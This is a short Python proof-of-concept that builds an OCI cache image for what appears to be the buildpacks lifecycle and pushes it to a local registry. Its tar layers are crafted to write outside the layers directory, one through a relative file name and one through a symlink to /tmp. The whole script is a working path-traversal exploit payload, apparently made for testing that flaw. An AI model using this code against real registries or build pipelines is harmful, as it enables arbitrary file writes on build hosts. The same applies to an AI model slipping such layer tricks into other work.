"""Pushes a cache image whose layers would write outside of the layers directory: by name, and through a link."""
import gzip, hashlib, io, json, tarfile, urllib.request as u

AT = "http://127.0.0.1:5000/v2/cache/"


def put(body):
    digest = "sha256:" + hashlib.sha256(body).hexdigest()
    where = u.urlopen(u.Request(AT + "blobs/uploads/", b"", method="POST")).headers["Location"]
    where += ("&" if "?" in where else "?") + "digest=" + digest
    u.urlopen(u.Request(where, body, {"Content-Type": "application/octet-stream"}, method="PUT"))
    return {"digest": digest, "size": len(body)}


def layer(*entries):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, link in entries:
            entry = tarfile.TarInfo(name)
            if link:
                entry.type, entry.linkname = tarfile.SYMTYPE, link
            archive.addfile(entry, io.BytesIO(b""))
    return out.getvalue()


def push(*entries):
    tar = layer(*entries)
    diff_id = "sha256:" + hashlib.sha256(tar).hexdigest()
    of = {"deps": {"sha": diff_id, "cache": True, "build": False, "launch": False, "data": None}}
    label = {"buildpacks": [{"key": "golden/a", "version": "1.0.0", "layers": of}]}
    config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [diff_id]},
              "config": {"Labels": {"io.buildpacks.lifecycle.cache.metadata": json.dumps(label)}}}
    kind = "application/vnd.oci.image."
    manifest = {"schemaVersion": 2, "mediaType": kind + "manifest.v1+json",
                "config": {"mediaType": kind + "config.v1+json", **put(json.dumps(config).encode())},
                "layers": [{"mediaType": kind + "layer.v1.tar+gzip", **put(gzip.compress(tar))}]}
    u.urlopen(u.Request(AT + "manifests/latest", json.dumps(manifest).encode(), {"Content-Type": manifest["mediaType"]}, method="PUT"))


if __name__ == "__main__":
    import sys
    if sys.argv[1] == "name":
        push(("tmp/evil", ""))
    else:
        push(("layers/golden_a/deps", "/tmp"), ("layers/golden_a/deps/evil", ""))
